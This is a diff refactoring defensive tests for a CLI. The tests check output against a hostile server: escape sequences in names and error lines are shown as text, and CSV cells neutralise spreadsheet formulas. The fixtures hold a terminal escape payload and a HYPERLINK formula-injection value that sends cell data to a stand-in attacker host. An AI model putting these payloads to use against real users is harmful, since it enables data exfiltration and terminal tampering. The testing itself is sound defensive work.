@@ -29,66 +29,59 @@ async function cli(argv: string[]) {
   return { code, stdout: out.join(""), stderr: err.join("") };
 }
 
+/** Runs the CLI against a loopback server that answers every request with this JSON. */
+async function cliAgainst(argv: string[], body: unknown, status = 200, headers: Record<string, string> = {}) {
+  server = await startLoopbackServer((_request, response) => sendJson(response, body, status, headers));
+  return cli(argv);
+}
+
+/** The payload, then `text`, written as escape sequences rather than sent to the terminal. */
+function expectPayloadShown(output: string, text: string) {
+  expect(output).not.toMatch(TERMINAL_CONTROL);
+  expect(output).toContain(`\\u001b]0;pwned\\u0007\\u001b[2J${text}`);
+}
+
 describe("the CLI against a hostile server", () => {
   it("shows escape sequences of item names in a table instead of sending them to the terminal", async () => {
-    server = await startLoopbackServer((_request, response) =>
-      sendJson(response, page([wireEvent({ name: `${PAYLOAD}Spring run` })]), 200, { "x-total-count": "1" }),
-    );
-    const result = await cli(["events"]);
+    const result = await cliAgainst(["events"], page([wireEvent({ name: `${PAYLOAD}Spring run` })]), 200, {
+      "x-total-count": "1",
+    });
     expect(result.code).toBe(EXIT.ok);
-    expect(result.stdout).not.toMatch(TERMINAL_CONTROL);
-    expect(result.stdout).toContain("\\u001b]0;pwned\\u0007\\u001b[2JSpring run");
+    expectPayloadShown(result.stdout, "Spring run");
   });
 
   it("shows escape sequences of a problem's detail in the error line", async () => {
-    server = await startLoopbackServer((_request, response) =>
-      sendJson(
-        response,
-        {
-          type: "https://x.test/problems/unauthorized",
-          title: "Unauthorized",
-          status: 401,
-          detail: `${PAYLOAD}bad token`,
-          instance: "/",
-        },
-        401,
-        { "content-type": "application/problem+json" },
-      ),
-    );
-    const result = await cli(["events"]);
+    const problem = {
+      type: "https://x.test/problems/unauthorized",
+      title: "Unauthorized",
+      status: 401,
+      detail: `${PAYLOAD}bad token`,
+      instance: "/",
+    };
+    const result = await cliAgainst(["events"], problem, 401, { "content-type": "application/problem+json" });
     expect(result.code).toBe(EXIT.unauthorized);
-    expect(result.stderr).not.toMatch(TERMINAL_CONTROL);
-    expect(result.stderr).toContain("\\u001b]0;pwned\\u0007\\u001b[2Jbad token");
+    expectPayloadShown(result.stderr, "bad token");
   });
 
   it("writes formulas into CSV as text, with a leading apostrophe", async () => {
-    server = await startLoopbackServer((_request, response) =>
-      sendJson(response, page([wireEvent({ name: '=HYPERLINK("http://evil.test/?"&A1,"open")' })]), 200, {
-        "x-total-count": "1",
-      }),
-    );
-    const result = await cli(["events", "--format", "csv"]);
+    const evil = wireEvent({ name: '=HYPERLINK("http://evil.test/?"&A1,"open")' });
+    const result = await cliAgainst(["events", "--format", "csv"], page([evil]), 200, { "x-total-count": "1" });
     expect(result.code).toBe(EXIT.ok);
     const name = result.stdout.split("\n")[1]?.split(",")[2];
     expect(name).toBe(`"'=HYPERLINK(""http://evil.test/?""&A1`);
   });
 
   it("exits with the usage code on --per-page 500, before any request", async () => {
-    server = await startLoopbackServer((_request, response) => sendJson(response, page([])));
-    const result = await cli(["events", "--per-page", "500"]);
+    const result = await cliAgainst(["events", "--per-page", "500"], page([]));
     expect(result.code).toBe(EXIT.usage);
     expect(result.stderr).toContain("--per-page must be an integer between 1 and 100");
-    expect(server.requests).toEqual([]);
+    expect(server?.requests).toEqual([]);
   });
 
   it("aligns names of wide characters by their display width", async () => {
     const names = ["東京マラソン", "Tokyo run", "😀 party"];
-    server = await startLoopbackServer((_request, response) =>
-      sendJson(response, page(names.map((name, i) => wireEvent({ id: `ev_${i}`, name }))), 200, {
-        "x-total-count": "3",
-      }),
-    );
-    const result = await cli(["events"]);
+    const items = names.map((name, i) => wireEvent({ id: `ev_${i}`, name }));
+    const result = await cliAgainst(["events"], page(items), 200, { "x-total-count": "3" });
     const { default: stringWidth } = await import("string-width");
     // Terminal columns before SCHEDULED_AT on each row: the same everywhere when aligned.
     const offsets = result.stdout
